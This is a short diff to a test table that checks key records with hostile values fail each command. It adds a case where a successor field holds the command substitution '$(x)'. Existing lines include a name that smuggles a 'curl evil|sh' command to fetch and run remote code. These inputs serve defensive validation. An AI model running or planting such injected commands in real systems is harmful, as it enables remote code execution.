@@ -225,6 +225,7 @@ test.each<[title: string, change: object, name?: string, error?: string]>([
   ['an id that is an option', { id: '--yes' }],
   ['an id of 65 characters', { id: 'x'.repeat(65) }],
   ['a family for a shell', { family: '$(x)' }],
+  ['a successor for a shell', { rotatedTo: '$(x)' }],
   ['a name for a shell', {}, "key:x'; curl evil|sh #\u001b", ODD_NAME],
 ])(
   'a record with %s fails each command, and other keys are revoked all the same',
